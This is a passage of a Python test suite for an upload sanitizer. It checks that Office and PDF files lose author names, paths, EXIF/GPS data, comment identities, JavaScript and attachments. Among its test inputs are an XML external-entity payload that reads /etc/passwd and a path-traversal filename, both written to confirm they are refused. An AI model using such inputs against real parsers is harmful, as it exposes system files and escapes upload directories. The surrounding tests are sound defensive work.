    assert PERSON.encode() not in b"".join(parts.values())
    assert {info.date_time for info in zipfile.ZipFile(io.BytesIO(prepared.content)).infolist()} == {
        (1980, 1, 1, 0, 0, 0)
    }


def test_xlsx_still_loads_in_openpyxl_with_creator_cleared():
    original = make_xlsx()
    assert openpyxl.load_workbook(io.BytesIO(original)).properties.creator == PERSON

    (prepared,) = prepare_uploads([upload("table.xlsx", original)])

    workbook = openpyxl.load_workbook(io.BytesIO(prepared.content))
    assert workbook.active["A1"].value == "Evidence"
    # With no dc:creator in core.xml openpyxl reports its own default name.
    assert workbook.properties.creator in {None, "", "openpyxl"}
    assert workbook.properties.lastModifiedBy in {None, ""}
    assert len(workbook.custom_doc_props) == 0
    assert PERSON.encode() not in b"".join(zip_parts(prepared.content).values())


def test_xlsx_saved_folder_path_is_removed():
    parts = zip_parts(make_xlsx())
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"<workbookPr",
        b'<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        b'<mc:Choice Requires="x15ac"><x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/'
        b'spreadsheetml/2010/11/ac" url="C:\\Users\\zhangsan\\Desktop\\"/></mc:Choice></mc:AlternateContent>'
        b"<workbookPr",
        1,
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)

    (prepared,) = prepare_uploads([upload("table.xlsx", out.getvalue())])

    assert b"zhangsan" not in zip_parts(prepared.content)["xl/workbook.xml"]
    assert openpyxl.load_workbook(io.BytesIO(prepared.content)).active["A1"].value == "Evidence"


# --- Office: embedded pictures -----------------------------------------------------------------

THUMBNAIL_REL = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail"


def assert_clean_picture(content: bytes, image_format: str, size: tuple[int, int]) -> None:
    with Image.open(io.BytesIO(content)) as image:
        assert image.format == image_format
        assert image.size == size
        assert not image.getexif()
        assert not {"exif", "xmp", "comment", "Author"} & image.info.keys()
    assert PERSON.encode() not in content
    assert b"PhoneMaker" not in content


EMBEDDED_PICTURES = [
    ("word/document.xml", WORD_MAIN, DOCX_BODY, "word/media/image1.jpeg", make_jpeg, "JPEG", (40, 20)),
    ("word/document.xml", WORD_MAIN, DOCX_BODY, "word/media/image2.png", make_png, "PNG", (16, 16)),
    ("xl/workbook.xml", XLSX_MAIN, b"<workbook/>", "xl/media/image1.gif", make_gif, "GIF", (16, 16)),
    (
        "ppt/presentation.xml",
        PPTX_MAIN,
        b"<presentation/>",
        "ppt/media/image1.webp",
        make_webp,
        "WEBP",
        (16, 16),
    ),
    # Found by content, not by name.
    ("word/document.xml", WORD_MAIN, DOCX_BODY, "word/media/picture.dat", make_jpeg, "JPEG", (40, 20)),
]


@pytest.mark.parametrize(
    ("main_part", "main_type", "body", "part", "build", "image_format", "size"),
    EMBEDDED_PICTURES,
    ids=[p[3] for p in EMBEDDED_PICTURES],
)
def test_office_embedded_pictures_lose_exif_and_gps(
    main_part, main_type, body, part, build, image_format, size
):
    original = build()
    assert PERSON.encode() in original

    (prepared,) = prepare_uploads(
        [upload("f.docx", make_ooxml(main_part, main_type, body, {part: original}))]
    )

    assert_clean_picture(zip_parts(prepared.content)[part], image_format, size)


def test_office_embedded_gif_keeps_its_frames():
    (prepared,) = prepare_uploads([upload("f.docx", make_ooxml(extra={"word/media/a.gif": make_gif(3)}))])

    with Image.open(io.BytesIO(zip_parts(prepared.content)["word/media/a.gif"])) as image:
        assert image.n_frames == 3


def test_office_thumbnail_is_removed_with_its_relationship_and_override():
    docx = make_ooxml(
        extra={"docProps/thumbnail.jpeg": make_jpeg()},
        extra_types='<Override PartName="/docProps/thumbnail.jpeg" ContentType="image/jpeg"/>',
        extra_rels=f'<Relationship Id="rId9" Type="{THUMBNAIL_REL}" Target="docProps/thumbnail.jpeg"/>',
    )

    (prepared,) = prepare_uploads([upload("letter.docx", docx)])

    parts = zip_parts(prepared.content)
    assert not [name for name in parts if "thumbnail" in name]
    assert b"thumbnail" not in parts["[Content_Types].xml"]
    assert b"thumbnail" not in parts["_rels/.rels"]
    assert b"officeDocument" in parts["_rels/.rels"]
    assert PERSON.encode() not in b"".join(parts.values())


def test_office_picture_that_cannot_be_decoded_refuses_the_document():
    # Storing it unchanged could keep its GPS position, so the whole document is refused.
    truncated = make_jpeg(size=(400, 300))[:300]

    error = only_refusal("letter.docx", make_ooxml(extra={"word/media/image1.jpeg": truncated}))

    assert error.code == "invalid_document"
    assert text(error) == "“letter.docx” is damaged or is not a valid Word, Excel or PowerPoint file."


def test_office_picture_with_too_many_pixels_refuses_the_document(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)

    assert (
        only_refusal("f.docx", make_ooxml(extra={"word/media/a.png": make_png()})).code == "invalid_document"
    )


# --- Office: names of commenters and reviewers -------------------------------------------------

OTHER_PERSON = "Li Si"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
W15 = 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w15"'


def all_text(parts: dict[str, bytes]) -> bytes:
    return b"".join(parts.values())


def test_docx_comment_and_tracked_change_authors_are_replaced():
    body = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document {W} {W15} {MC}><w:body>'
        f'<w:p><w:ins w:id="1" w:author="{PERSON}" w:date="2026-01-02T03:04:05Z">'
        "<w:r><w:t>new</w:t></w:r></w:ins>"
        f'<w:del w:id="2" w:author="{OTHER_PERSON}" w:date="2026-01-02T03:04:05Z">'
        "<w:r><w:delText>old</w:delText></w:r></w:del>"
        f'<w:r><w:rPr><w:b/><w:rPrChange w:id="3" w:author="{PERSON}"><w:rPr/></w:rPrChange>'
        "</w:rPr><w:t>Evidence about the author</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    comments = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments {W}>'
        f'<w:comment w:id="0" w:author="{OTHER_PERSON}" w:date="2026-01-02T03:04:05Z" w:initials="LS">'
        "<w:p><w:r><w:t>Checked</w:t></w:r></w:p></w:comment>"
        f'<w:comment w:id="1" w:author="{PERSON}" w:initials="ZS"><w:p/></w:comment></w:comments>'
    ).encode()
    people = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w15:people {W15} {MC}>'
        f'<w15:person w15:author="{PERSON}"><w15:presenceInfo w15:providerId="AD"'
        ' w15:userId="S::zhangsan@example.com::0c9a"/></w15:person>'
        f'<w15:person w15:author="{OTHER_PERSON}"/></w15:people>'
    ).encode()
    footnote = (
        f'<w:footnotes {W}><w:footnote w:id="1"><w:p><w:ins w:id="9" w:author="{OTHER_PERSON}">'
        "<w:r><w:t>note</w:t></w:r></w:ins></w:p></w:footnote></w:footnotes>"
    ).encode()
    docx = make_ooxml(
        body=body,
        extra={"word/comments.xml": comments, "word/people.xml": people, "word/footnotes.xml": footnote},
    )

    (prepared,) = prepare_uploads([upload("letter.docx", docx)])

    parts = zip_parts(prepared.content)
    everything = all_text(parts)
    for secret in (PERSON, OTHER_PERSON, "zhangsan@example.com", 'initials="ZS"', 'initials="LS"'):
        assert secret.encode() not in everything, secret
    # One pseudonym per person, the same in every part; the rest of each part is untouched.
    assert parts["word/document.xml"] == body.replace(PERSON.encode(), b"Author 1").replace(
        OTHER_PERSON.encode(), b"Author 2"
    )
    assert b'w:author="Author 2" w:date="2026-01-02T03:04:05Z" w:initials="A2"' in parts["word/comments.xml"]
    assert b'w:author="Author 1" w:initials="A1"' in parts["word/comments.xml"]
    assert (
        b'<w15:person w15:author="Author 1"><w15:presenceInfo w15:providerId="None" w15:userId="Author 1"/>'
        in parts["word/people.xml"]
    )
    assert b'w:author="Author 2"' in parts["word/footnotes.xml"]
    assert b'mc:Ignorable="w15"' in parts["word/people.xml"]
    for name in ("word/document.xml", "word/comments.xml", "word/people.xml", "word/footnotes.xml"):
        minidom.parseString(parts[name])  # noqa: S318 - our own output


def test_xlsx_comment_authors_and_persons_are_replaced():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Evidence"
    workbook.active["A1"].comment = Comment(f"{PERSON}:\nPlease check", PERSON)
    out = io.BytesIO()
    workbook.save(out)
    parts = zip_parts(out.getvalue())
    (comments_part,) = [name for name in parts if name.startswith("xl/comments")]
    parts[comments_part] = parts[comments_part].replace(
        b"</authors>", b"<author>tc={5D1B4F0E-0000-4000-8000-000000000001}</author></authors>"
    )
    parts["xl/persons/person.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
        f'<person displayName="{PERSON}" id="{{5D1B4F0E-0000-4000-8000-0000000000AA}}"'
        ' userId="zhangsan@example.com" providerId="AD"/></personList>'
    ).encode()
    parts["xl/threadedComments/threadedComment1.xml"] = (
        b'<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
        b'<threadedComment ref="A1" personId="{5D1B4F0E-0000-4000-8000-0000000000AA}"'
        b' id="{5D1B4F0E-0000-4000-8000-000000000001}"><text>Please check</text></threadedComment>'
        b"</ThreadedComments>"
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"<workbookPr", f'<fileSharing readOnlyRecommended="1" userName="{PERSON}"/><workbookPr'.encode(), 1
    )
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(rebuilt, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)

    (prepared,) = prepare_uploads([upload("table.xlsx", rebuilt.getvalue())])

    cleaned = zip_parts(prepared.content)
    assert PERSON.encode() not in all_text(cleaned)
    assert b"zhangsan@example.com" not in all_text(cleaned)
    assert b"<author>Author 1</author><author>tc={5D1B4F0E" in cleaned[comments_part]  # a link, kept
    assert b'displayName="Author 1"' in cleaned["xl/persons/person.xml"]
    assert b'userId="Author 1" providerId="None"' in cleaned["xl/persons/person.xml"]
    assert (
        cleaned["xl/threadedComments/threadedComment1.xml"]
        == (parts["xl/threadedComments/threadedComment1.xml"])
    )
    assert b'userName="Author 1"' in cleaned["xl/workbook.xml"]
    sheet = openpyxl.load_workbook(io.BytesIO(prepared.content)).active
    assert sheet["A1"].comment.author == "Author 1"
    assert sheet["A1"].comment.text == "Author 1:\nPlease check"  # Excel's "Name:" heading


def test_pptx_comment_authors_are_replaced():
    p = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    p15 = 'xmlns:p15="http://schemas.microsoft.com/office/powerpoint/2012/main"'
    comment_authors = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<p:cmAuthorLst {p} {p15}>'
        f'<p:cmAuthor id="1" name="{PERSON}" initials="ZS" lastIdx="1" clrIdx="0"><p:extLst><p:ext uri="x">'
        '<p15:presenceInfo userId="zhangsan@example.com" providerId="AD"/></p:ext></p:extLst></p:cmAuthor>'
        f'<p:cmAuthor id="2" name="{OTHER_PERSON}" initials="LS" lastIdx="3" clrIdx="1"/></p:cmAuthorLst>'
    ).encode()
    authors = (
        '<p188:authorLst xmlns:p188="http://schemas.microsoft.com/office/powerpoint/2018/8/main">'
        f'<p188:author id="{{A1}}" name="{OTHER_PERSON}" initials="LS" userId="lisi@example.com"'
        ' providerId="AD"/></p188:authorLst>'
    ).encode()

    (prepared,) = prepare_uploads(
        [
            upload(
                "slides.pptx",
                make_pptx({"ppt/commentAuthors.xml": comment_authors, "ppt/authors.xml": authors}),
            )
        ]
    )

    parts = zip_parts(prepared.content)
    for secret in (PERSON, OTHER_PERSON, "zhangsan@example.com", "lisi@example.com", '"ZS"', '"LS"'):
        assert secret.encode() not in all_text(parts), secret
    assert b'name="Author 1" initials="A1" lastIdx="1"' in parts["ppt/commentAuthors.xml"]
    assert b'userId="Author 1" providerId="None"' in parts["ppt/commentAuthors.xml"]
    assert b'name="Author 2" initials="A2" lastIdx="3"' in parts["ppt/commentAuthors.xml"]
    assert b'name="Author 2" initials="A2" userId="Author 2" providerId="None"' in parts["ppt/authors.xml"]


def test_office_comments_part_with_a_dtd_is_refused():
    comments = (
        b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY who SYSTEM "file:///etc/passwd">]>'
        b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<w:comment w:author="&who;"/></w:comments>'
    )

    error = only_refusal("letter.docx", make_ooxml(extra={"word/comments.xml": comments}))

    assert error.code == "dtd"


# --- PDF: scripts, automatic actions and attachments ------------------------------------------


def javascript(code: str) -> DictionaryObject:
    # pypdf writes punctuation in strings as octal escapes; the tests look for "ScriptMarker".
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def make_active_pdf() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    writer.add_attachment("notes.txt", b"ATTACHED-SECRET")
    writer.add_attachment("photo.txt", b"ANNOTATION-SECRET")
    root = writer.root_object
    names = root["/Names"]
    # Take the second file out of the name tree, so only its paperclip annotation refers to it.
    embedded = names["/EmbeddedFiles"]["/Names"]
    index = [str(item) for item in embedded[::2]].index("photo.txt") * 2
    annotation_file = embedded[index + 1]
    del embedded[index : index + 2]
    names[NameObject("/JavaScript")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("init"), javascript("app.alert(ScriptMarkernames)")]
            )
        }
    )
    root[NameObject("/OpenAction")] = javascript("app.alert(ScriptMarkeropen)")
    root[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): javascript("app.alert(ScriptMarkerclose)")}
    )
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript("app.alert(ScriptMarkerpage)")})
    rect = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)])
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): rect,
                NameObject("/FS"): annotation_file,
            }
        ),
    )
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): rect,
                NameObject("/A"): javascript("app.alert(ScriptMarkerlink)"),
                NameObject("/AA"): DictionaryObject(
                    {NameObject("/E"): javascript("app.alert(ScriptMarkerenter)")}
                ),
            }
        ),
    )
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): rect,
                NameObject("/A"): DictionaryObject(
                    {
                        NameObject("/S"): NameObject("/URI"),
                        NameObject("/URI"): TextStringObject("https://example.org/"),
                    }
                ),
            }
        ),
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pdf_loses_javascript_automatic_actions_and_attachments():
    original = make_active_pdf()
    for marker in (b"ATTACHED-SECRET", b"ANNOTATION-SECRET", b"ScriptMarker", b"/OpenAction", b"/AA"):
        assert marker in original, marker

    (prepared,) = prepare_uploads([upload("memo.pdf", original)])

    for marker in (b"ATTACHED-SECRET", b"ANNOTATION-SECRET", b"ScriptMarker", b"/JavaScript", b"/OpenAction"):
        assert marker not in prepared.content, marker
    assert b"/AA" not in prepared.content
    reader = PdfReader(io.BytesIO(prepared.content))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    assert not {"/JavaScript", "/EmbeddedFiles"} & set(root.get("/Names", {}))
    assert not reader.attachments
    (page,) = reader.pages
    assert "/AA" not in page
    annotations = [annotation.get_object() for annotation in page["/Annots"]]
    assert [annotation["/Subtype"] for annotation in annotations] == ["/Link", "/Link"]
    assert "/A" not in annotations[0]  # the script behind the first link is gone
    assert annotations[1]["/A"]["/URI"] == "https://example.org/"  # an ordinary web link stays


# --- Reporting ---------------------------------------------------------------------------------


def test_all_errors_of_a_set_are_reported_together(settings):
    settings.INTAKE_MAX_FILES = 3
    settings.INTAKE_MAX_FILE_SIZE = 5000
    files = [
        upload("ok.png", make_png()),
        upload("empty.pdf", b""),
        upload("../virus.pdf", b"MZ\x90\x00"),
        upload("huge.jpg", b"\xff\xd8\xff" + b"\x00" * 6000),
        upload("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100),
    ]

    errors = refusal(files)

    assert [(e.code, e.params.get("name")) for e in errors] == [
        ("too_many_files", None),
        ("empty", "empty.pdf"),
        ("unsupported_type", "virus.pdf"),
        ("too_large", "huge.jpg"),
        ("legacy_office", "old.xls"),
    ]


def test_every_message_is_interpolated_with_its_params():
    params = {"name": "x.pdf", "limit": 10, "count": 12}

    for code, message in MESSAGES.items():
        rendered = str(ValidationError(message, code=code, params=params).messages[0])
        assert "%(" not in rendered, code
        assert code in {"too_many_files", "total_too_large"} or "“x.pdf”" in rendered, code
